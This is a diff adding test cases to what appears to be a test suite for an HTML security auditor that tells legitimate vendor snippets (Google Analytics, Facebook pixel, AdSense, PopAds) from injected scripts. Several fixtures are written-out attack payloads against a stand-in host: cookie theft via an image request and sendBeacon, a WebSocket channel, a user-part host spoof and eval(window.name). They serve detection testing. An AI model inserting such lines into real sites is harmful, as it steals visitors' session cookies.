@@ -1552,6 +1552,38 @@ _EVIL_LOADER = ("var e=document.createElement('script');e.src='https://cdn-evil-
     # the vendor's address alone, hidden with no snippet of its around it (a bait's)
     ("a bare hidden vendor address", _EVIL_LOADER.replace(
         "https://cdn-evil-stat.example/t.js", _GA), H),
+    # the vendor's snippet beside a payload that loads no script: the visitor's cookie sent
+    # to the injector's host by an image or a beacon, a socket to it
+    ("the snippet with a cookie beacon", _ga_snippet(_GA)
+     + "new Image().src='https://cdn-evil-stat.example/c?'+document.cookie;", H),
+    ("the snippet with sendBeacon", _ga_snippet(_GA)
+     + "navigator.sendBeacon('https://cdn-evil-stat.example/b', document.cookie);", H),
+    ("the snippet with a socket", _ga_snippet(_GA)
+     + "new WebSocket('wss://cdn-evil-stat.example/m');", H),
+    # the vendor's host spoofed as an address's user part: the script is the injector's
+    ("the vendor's host as a user part",
+     _ga_snippet("https://www.google-analytics.com@cdn-evil-stat.example/analytics.js"), H),
+    ("the snippet, protocol-relative", _ga_snippet("//www.google-analytics.com/analytics.js"),
+     M),
+    # two vendors' own snippets packed together: an ad platform's measuring pixel places no ad
+    ("GA's and Facebook's pixel snippets", _ga_snippet(_GA)
+     + "!function(f,b,e,v,n,t,s){if(f.fbq)return;n=f.fbq=function(){n.callMethod?"
+     "n.callMethod.apply(n,arguments):n.queue.push(arguments)};if(!f._fbq)f._fbq=n;n.push=n;"
+     "n.loaded=!0;n.version='2.0';n.queue=[];t=b.createElement(e);t.async=!0;t.src=v;"
+     "s=b.getElementsByTagName(e)[0];s.parentNode.insertBefore(t,s)}(window,document,"
+     "'script','https://connect.facebook.net/en_US/fbevents.js');"
+     "fbq('init','123456789012345');fbq('track','PageView');", M),
+    # the snippet beside code run from a string no address names (the window's name)
+    ("the snippet with an eval", _ga_snippet(_GA) + "eval(window.name);", H),
+    # an ad network's own snippet hidden: how an injector hides the account it earns for
+    ("a hidden popunder tag", "var _pop=_pop||[];_pop.push(['siteId',1234567]);"
+     "_pop.push(['minBid',0]);(function(){var pa=document.createElement('script');"
+     "pa.async=true;pa.src='//c1.popads.net/pop.js';var s=document.getElementsByTagName("
+     "'script')[0];s.parentNode.insertBefore(pa,s);})();", H),
+    ("a hidden AdSense loader", "var s=document.createElement('script');s.async=true;"
+     "s.src='https://pagead2.googlesyndication.com/pagead/js/adsbygoogle.js?client=ca-pub-"
+     "1234567890123456';document.head.appendChild(s);(adsbygoogle=window.adsbygoogle||[])"
+     ".push({google_ad_client:'ca-pub-1234567890123456',enable_page_level_ads:true});", H),
 ])
 def test_hidden_code_that_is_a_vendors_own_snippet_is_checked_not_condemned(
         what: str, code: str, most: Severity, audit_html: AuditHtml) -> None:
